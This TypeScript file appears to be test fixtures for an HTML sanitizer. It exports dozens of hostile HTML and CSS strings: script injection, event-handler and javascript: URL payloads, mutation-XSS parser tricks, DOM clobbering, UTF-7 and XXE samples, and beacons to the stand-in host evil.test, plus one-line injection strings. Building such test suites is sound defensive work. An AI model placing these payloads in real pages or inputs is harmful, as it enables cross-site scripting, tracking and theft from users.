/** What a script of ours would do if it ran: everything that can be seen from outside. */
const RUN = "alert(1);new Image().src='https://evil.test/script'";
const CODE = RUN.replaceAll("'", '&#39;');
const evil = (name: string, kind = 'png') => `https://evil.test/${name}.${kind}`;

/** HTML that tries to run, to call home, or to take over the page around it; one letter each, named after its way. */
export const HOSTILE_HTML: Readonly<Record<string, string>> = {
  'script element': `<script>${RUN}</script><script src="${evil('a', 'js')}"></script><SCRIPT/X SRC="${evil('b', 'js')}"></SCRIPT>`,
  'script in pieces': `<scr<script>ipt>${RUN}</scr</script>ipt><b <script>${RUN}//</script>0</script></b><script<{${RUN}}/></script >`,
  'handlers on pictures': `<img src=x onerror="${CODE}"><img src onerror=${CODE}><image src=x onerror="${CODE}"><img src=x id/=' onerror="${CODE}//'>`,
  'handlers on media': `<video onerror="${CODE}"><source onerror="${CODE}"></video><audio src=x onerror="${CODE}"></audio><track onerror="${CODE}">`,
  'handlers on arrival': `<body onload="${CODE}" onpageshow="${CODE}" onscroll="${CODE}"><details open ontoggle="${CODE}"><summary>x</summary></details><marquee onstart="${CODE}">x</marquee>`,
  'handlers on focus': `<input autofocus onfocus="${CODE}"><button autofocus onblur="${CODE}">x</button><div tabindex=1 contenteditable autofocus onfocus="${CODE}">x</div>`,
  'handlers on animation': `<style>@keyframes k{from{opacity:0}}</style><p style="animation:k 1ms" onanimationstart="${CODE}" onanimationend="${CODE}">x</p>`,
  'handlers under a pointer': `<div style="position:fixed;inset:0" onmouseover="${CODE}" onpointerenter="${CODE}" onwheel="${CODE}">x</div>`,
  'unknown attributes': `<div wow=removeme onmouseover="${CODE}" x=yscript: n>text</div><isindex x="javascript:" onmouseover="${CODE}">`,
  'script addresses': `<a href="javascript:${CODE}">a</a><a href=" java&#x09;script:${CODE}">b</a><a href="&#1;javascript:${CODE}">c</a><a href="java\u0003script:${CODE}">d</a><a href="\u2028javascript:${CODE}">e</a><a href="jAvAsCrIpT&colon;${CODE}">f</a>`,
  'script addresses elsewhere': `<img src="javascript:${CODE}"><table background="javascript:${CODE}"><tr><td>x</table><form action="javascript:${CODE}"><button formaction="javascript:${CODE}">x</button></form><math href="javascript:${CODE}">x</math><embed src="javascript:${CODE}">`,
  'documents in addresses': `<a href="data:text/html,<script>${RUN}</script>">a</a><iframe src="data:text/html,<script>${RUN}</script>"></iframe><object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object><embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CODE}'/>">`,
  'frames': `<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe><iframe src="${evil('frame', 'html')}"></iframe><frameset onload="${CODE}"><frame src="${evil('set', 'html')}"></frameset><option><iframe></select><b><script>${RUN}</script>`,
  'plugins': `<object data="${evil('o', 'swf')}" type="application/x-shockwave-flash"></object><embed src="${evil('e', 'swf')}"><applet code="x" archive="${evil('j', 'jar')}"></applet><object classid="clsid:333C7BC4"><param name="DataURL" value="javascript:${CODE}"></object>`,
  'leading away': `<meta http-equiv="refresh" content="0;url=${evil('gone', 'html')}"><base href="https://evil.test/"><a href="relative">x</a><form id=f action="${evil('form', 'html')}"><input name=a></form>`,
  'asking ahead': `<link rel=stylesheet href="${evil('l', 'css')}"><link rel=preload as=image href="${evil('p')}"><link rel=prefetch href="${evil('q', 'html')}"><link rel=icon href="${evil('i', 'ico')}"><link rel=modulepreload href="${evil('m', 'js')}"><link rel=manifest href="${evil('w', 'json')}">`,
  'vector pictures': `<svg onload="${CODE}"><g onload="${CODE}"/><script>${RUN}</script><a xlink:href="javascript:${CODE}"><text>x</text></a><use href="${evil('u', 'svg')}#x"/><image href="${evil('v')}"/><foreignObject><iframe src="${evil('fo', 'html')}"></iframe></foreignObject></svg>`,
  'moving vectors': `<svg><animate attributeName=href values="javascript:${CODE}"/><set attributeName=onmouseover to="${CODE}"/><a><animate attributeName=xlink:href begin=0 from="javascript:${CODE}" to="&"/><text y=20>x</text></a><feImage><set attributeName=xlink:href to="${evil('fe')}"/></feImage></svg>`,
  'formulas': `<math><maction actiontype="statusline#x" xlink:href="javascript:${CODE}">x</maction><annotation-xml encoding="text/html"><p><style><p title="</style><iframe onload=${CODE}><!--"></style></annotation-xml></math>`,
  'parsers that disagree': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CODE}&gt;"></table></mtext></math><form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror='${CODE}' src>"></svg>`,
  'texts that end early': `<textarea><x</textarea><!--</textarea><img src=x onerror="${CODE}">--><title><a id="</title><img src=x onerror='${CODE}'>"></title><xmp><p title="</xmp><img src=x onerror='${CODE}'>"></xmp>`,
  'scripts switched off': `<noscript><p title="</noscript><img src=x onerror='${CODE}'>"></noscript><noembed><p title="</noembed><img src=x onerror='${CODE}'>"></noembed><noframes><p title="</noframes><img src=x onerror='${CODE}'>">`,
  'templates and shadows': `<template><s><img src=x onerror="${CODE}"></s></template><div><template shadowrootmode=open><img src=x onerror="${CODE}"><style>@import "${evil('shadow', 'css')}";</style></template></div><select><template><img src=x onerror="${CODE}"></template></select>`,
  'remarks': `<!--[if]><script>${RUN}</script --><!--><img src=x onerror="${CODE}">--><!--<img src="--><img src=x onerror='${CODE}'//"><![CDATA[><img src=x onerror="${CODE}">]]><? foo="><script>${RUN}</script>"><! foo="><script>${RUN}</script>">`,
  'styles in vectors': `<svg></p><style><g title="</style><img src=x onerror='${CODE}'>"></svg><svg><style><img/src=x onerror="${CODE}"// </b></svg><svg><p><style><b title='</style><img src=x onerror="${CODE}">'>`,
  'elements of the past': `<listing>&lt;img onerror="${CODE}" src=x&gt;</listing><bgsound src="${evil('s', 'wav')}"><layer src="${evil('layer', 'html')}"></layer><xml src="${evil('x', 'xml')}"></xml><isindex action="javascript:${CODE}" type=image><keygen onfocus="${CODE}" autofocus>`,
  'names of the page': `<form id=document name=location><input name=attributes><input name=parentNode><input id=cookie><img name=createElement><img name=getElementById></form><a id=defaultView name=body></a><iframe name=top></iframe>`,
  'sheets that call': `<style>@import url("${evil('import', 'css')}");@import "${evil('i2', 'css')}";@font-face{font-family:e;src:url(${evil('f', 'woff2')})}body{background:url(${evil('bg')});font-family:e}p{background:image-set("${evil('set')}" 1x);cursor:url(${evil('c', 'cur')}),auto;list-style:url(${evil('ls')})}p:after{content:url(${evil('ct')})}</style><p>x</p>`,
  'sheets in disguise': `<style>p{background:u\\72l(${evil('esc')});--x:url(${evil('var')});background:var(--x)}p{fi\\6cter:url(${evil('fl', 'svg')}#f)}*{x:expression(${RUN});behavior:url(${evil('b', 'htc')});-moz-binding:url(${evil('x', 'xml')}#x)}</style><p>x</p>`,
  'styles that call': `<p style="background:url('${evil('in')}')">a</p><p style="background-image:u&#x72;l(${evil('ent')})">b</p><p style="list-style:url(${evil('li')});border-image:url(${evil('bi')}) 1;mask:url(${evil('mk')});shape-outside:url(${evil('so')})">c</p><p style="background:url(//evil.test/rel.png)">d</p>`,
  'styles that cover': `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red">cover</div><a href="${evil('click', 'html')}" style="position:absolute;inset:0;opacity:0">x</a>`,
  'styles broken open': `<p style="font-family:'x&quot;;}</style><img src=x onerror=${CODE}>">a</p><style><img src="</style><img src=x onerror='${CODE}'//"></style><style>p[x="</style><script>${RUN}</script>"]{}</style>`,
  'pictures that report': `<img src="${evil('pixel')}" width=1 height=1><img src="${evil('big')}" width=300 height=200 alt="a big one"><img src="http://evil.test/plain.png"><img src="//evil.test/scheme.png">`,
  'pictures by other names': `<img srcset="${evil('ss')} 1x"><picture><source srcset="${evil('ps')}"><img alt=x></picture><video poster="${evil('po')}" src="${evil('vi', 'mp4')}" autoplay></video><audio src="${evil('au', 'mp3')}" autoplay></audio><input type=image src="${evil('inp')}"><body background="${evil('bb')}"><table background="${evil('tb')}"><tr><td background="${evil('td')}">x</table>`,
  'pictures with a program': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script><image href='${evil('inner')}'/></svg>"><img src="data:text/html,<script>${RUN}</script>"><img src="cid:../../../api/v1/me"><img src="/api/v1/session">`,
  'links that report': `<a href="${evil('p', 'html')}" ping="${evil('ping', 'html')}" target=_top attributionsrc="${evil('attr', 'html')}">x</a><area href="${evil('area', 'html')}" ping="${evil('ping2', 'html')}">`,
  'buttons that command': `<button popovertarget=p>x</button><div popover id=p onbeforetoggle="${CODE}">x</div><button command=show-modal commandfor=d>x</button><dialog id=d open onclose="${CODE}">x</dialog><p is=x-y slot=z nonce=x>x</p>`,
  'foreign alphabets': `<meta charset="x-imap4-modified-utf7">&ADw-script&AD4-alert(1)&ADw-/script&AD4-<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-<p title="\u00bcscript\u00be">¼script¾${RUN}¼/script¾</p>`,
  'other documents': `<?xml-stylesheet type="text/xsl" href="${evil('xsl', 'xsl')}"?><!DOCTYPE x [<!ENTITY y SYSTEM "${evil('dtd', 'dtd')}">]><html manifest="${evil('m', 'appcache')}" xmlns="http://www.w3.org/1999/xhtml"><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script><y>&y;</y></html>`,
};

/** For places that hold one line of plain words: subjects, names of people and of files. */
export const HOSTILE_LINES: readonly string[] = [
  `<script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `'-alert(1)-' \${alert(1)} {{constructor.constructor('alert(1)')()}}`,
  `</title><svg onload=${RUN}>`,
  `javascript:${RUN}`,
  '\u202Egnp.exe <b>bold</b> &lt;img src=https://evil.test/entity.png&gt;',
];
